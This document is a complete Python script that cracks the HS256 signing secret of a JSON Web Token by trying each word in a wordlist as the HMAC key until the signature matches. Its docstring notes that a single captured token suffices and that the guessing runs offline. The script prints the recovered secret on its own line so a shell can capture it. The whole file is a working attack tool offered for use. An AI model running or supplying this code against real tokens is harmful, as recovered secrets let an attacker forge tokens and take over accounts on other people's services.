"""Find the HS256 secret of a JWT in a wordlist: python3 crack_hs256.py CARD WORDLIST

Each word is tried as the HMAC-SHA256 key of the card's header and payload; the
word that remakes the card's signature is its secret. Nothing is sent anywhere:
one card is all an attacker needs, and the guessing happens offline, as fast as
the computer goes. Only Python's standard library is used.

The secret is printed alone on standard output, the rest on standard error, so
SECRET=$(python3 crack_hs256.py "$CARD" wordlist.txt) keeps it.
"""

import base64
import hashlib
import hmac
import sys
import time


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def crack(card: str, words: list[str]) -> str | None:
    header, payload, signature = card.split(".")
    signing_input = f"{header}.{payload}".encode()
    for word in words:
        made = hmac.new(word.encode(), signing_input, hashlib.sha256).digest()
        if hmac.compare_digest(b64url(made), signature):
            return word
    return None


def main() -> int:
    if len(sys.argv) != 3 or sys.argv[1].count(".") != 2:
        print(__doc__.splitlines()[0], file=sys.stderr)
        return 2
    card, wordlist = sys.argv[1], sys.argv[2]
    with open(wordlist, encoding="utf-8") as handle:
        words = handle.read().split()
    started = time.perf_counter()
    secret = crack(card, words)
    took = time.perf_counter() - started
    if secret is None:
        print(f"No word of {len(words)} made it ({took:.2f} s).", file=sys.stderr)
        return 1
    tried = words.index(secret) + 1
    print(f"Found after {tried} of {len(words)} words ({took:.2f} s):", file=sys.stderr)
    print(secret)
    return 0


if __name__ == "__main__":
    sys.exit(main())
